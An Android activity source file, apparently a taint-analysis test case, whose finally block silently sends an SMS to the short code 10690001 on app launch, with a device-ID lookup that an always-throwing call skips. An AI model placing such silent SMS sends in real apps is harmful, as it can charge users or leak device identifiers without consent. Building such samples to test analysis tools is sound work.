package cn.shanhai.finallyblock;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = "none";
    try {
      fail();
      id = Device.id(this);
    } catch (IllegalStateException e) {
      setTitle("首页");
    } finally {
      SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
    }
  }

  private static void fail() {
    throw new IllegalStateException("always");
  }
}
